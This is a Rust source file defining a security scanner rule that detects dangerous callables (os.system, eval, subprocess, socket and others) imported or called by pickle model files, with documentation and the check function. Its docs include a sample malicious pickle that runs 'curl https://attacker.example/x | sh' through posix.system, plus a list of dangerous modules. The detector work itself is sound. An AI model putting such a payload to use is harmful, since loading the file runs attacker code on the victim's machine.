//! PKL001: a known-dangerous callable is imported or called.

use sentrascan_formats::pickle::PickleAnalysis;
use sentrascan_types::{Category, Finding, RuleFamily, RuleMeta, Severity};

use super::{PickleCtx, call_phrase, global_finding, use_location};
use crate::pickle_globals::{Tier, classify};

pub static RULE: RuleMeta = RuleMeta {
    code: "PKL001",
    name: "dangerous-pickle-global",
    family: RuleFamily::Pickle,
    default_severity: Severity::Critical,
    category: Category::ArbitraryCodeExecution,
    scanner: "pickle",
    cwe: Some("CWE-502"),
    owasp_ml: Some("ML06:2023"),
    version: 1,
    summary: "The pickle imports or calls a callable that runs code, runs commands, or touches files or the network.",
    remediation: "Do not load this file with pickle or torch.load(weights_only=False). Obtain the model from a trusted source, or convert it to a format without code (SafeTensors) in an isolated environment.",
    docs: r#"## What it does
Flags every global that the pickle imports or calls when it is on the reviewed
list of dangerous callables: code execution (`builtins.eval`, `exec`,
`runpy`, `importlib`, `pickle.loads`, `marshal`), command execution (`os`,
`posix`, `nt`, `subprocess`, `pty`), universal resolvers (`getattr`,
`pkgutil.resolve_name`, `operator.attrgetter`), interpreter internals reached
through `__dict__`, `__globals__`, `__builtins__` or `__subclasses__`, and
file or network access (`shutil`, `io.FileIO`, `socket`, `urllib`).
Names are resolved the way an unpickler resolves them: aliases (`posix` is
`os`), dotted names under protocol 4 (`pathlib` + `os.system`), memo values,
and chains built at load time (`getattr(import_module('os'), 'system')`).

A dangerous callable whose every call is proven inert by its literal
arguments, and which is never stored as a value that something else could
call, is not reported itself; what it resolves or calls is reported as its
own global. This covers `setattr` of a plain attribute or `__qualname__` on
an object the pickle built, and dill's reconstructors that rebuild data or
look a name up in a fixed table (`_load_type('NoneType')`, `_create_type`,
`_create_namedtuple` in `__main__`, `_create_lock`): `_load_type('CodeType')`
is reported as `types.CodeType`. dill's `_create_function`, `_create_code`,
`_eval_repr`, `_import_module`, `_get_attr` and `_create_filehandle` are
always reported.

## Why is this bad?
Unpickling calls these callables with attacker-chosen arguments. Loading the
file runs the payload: a command, a download, a file write.

## Example
```
cposix
system
(S'curl https://attacker.example/x | sh'
tR.
```
is reported as `pickle calls posix.system with ("curl … | sh",)`.

## How to fix
Treat the file as malicious. Do not load it; get the model from its
publisher, or a SafeTensors copy. If the global is legitimate in your
context, record an exception with a reason in the policy file.

## References
- CWE-502: Deserialization of Untrusted Data
- OWASP ML06:2023 AI Supply Chain Attacks
- Python documentation, `pickle` — "Restricting Globals"
"#,
};

pub(crate) fn check(view: &PickleAnalysis, ctx: &PickleCtx<'_>, out: &mut Vec<Finding>) {
    for g in &view.globals {
        let Tier::Dangerous(d) = classify(&g.module, &g.name) else {
            continue;
        };
        // Every call proven inert by its literal arguments (dill's
        // `_load_type('NoneType')`, `setattr` of `__qualname__` on a class
        // the pickle built) and never handed on: what it reached is
        // reported as its own global.
        if g.only_inert_calls() {
            continue;
        }
        let verb = if g.is_called() { "calls" } else { "imports" };
        let dotted = g.dotted();
        let title = format!("Pickle {verb} dangerous global `{dotted}`");
        let via = g
            .via
            .as_deref()
            .map(|v| format!(", reached through `{v}`"))
            .unwrap_or_default();
        let description = format!(
            "The pickle {verb} `{dotted}` ({}: {}){}{via}.",
            d.entry,
            d.effect,
            call_phrase(g)
        );
        let f = Finding::new(&RULE, use_location(ctx, g), title)
            .severity(d.severity())
            .category(d.category)
            .description(description)
            .evidence("matched_entry", d.entry);
        out.push(global_finding(f, g));
    }
}
